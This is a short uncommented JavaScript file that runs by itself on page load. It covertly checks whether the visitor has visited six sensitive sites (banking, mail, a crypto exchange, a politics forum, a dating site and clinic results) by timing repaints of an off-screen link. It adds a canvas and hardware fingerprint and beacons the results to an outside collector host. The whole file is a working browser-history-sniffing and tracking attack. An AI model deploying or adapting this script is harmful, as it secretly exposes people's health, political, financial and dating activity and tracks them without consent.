var lst = ["https://bank-one.example/login", "https://mail-two.example/", "https://exchange-three.example/trade", "https://forum-four.example/board/politics", "https://dating-five.example/", "https://clinic-six.example/results"];
var out = { v: [], fp: {} };

function probe(i) {
    if (i >= lst.length) { return send(); }
    var a = document.createElement("a");
    a.href = "https://none.example/" + Math.random();
    a.innerHTML = new Array(400).join("x");
    a.style.cssText = "position:absolute;left:-9999px;font-size:8px;filter:contrast(2) blur(9px);text-shadow:0 0 20px red;transform:perspective(100px) rotateY(37deg)";
    document.body.appendChild(a);
    var n = 0, t0 = performance.now();
    (function loop() {
        a.href = n % 2 ? lst[i] : "https://none.example/" + n;
        if (++n < 40) { return requestAnimationFrame(loop); }
        var dt = performance.now() - t0;
        if (dt > 900) { out.v.push(lst[i]); }
        document.body.removeChild(a);
        probe(i + 1);
    })();
}

function send() {
    var c = document.createElement("canvas"), x = c.getContext("2d");
    x.font = "14px Arial"; x.fillText("Cwm fjord 😃", 2, 15);
    out.fp = { c: c.toDataURL().slice(-64), p: navigator.platform, s: screen.width + "x" + screen.height, h: navigator.hardwareConcurrency, z: new Date().getTimezoneOffset() };
    new Image().src = "https://col.metric-wall.example/l.gif?d=" + encodeURIComponent(JSON.stringify(out));
}
window.onload = function () { setTimeout(function () { probe(0); }, 2000); };
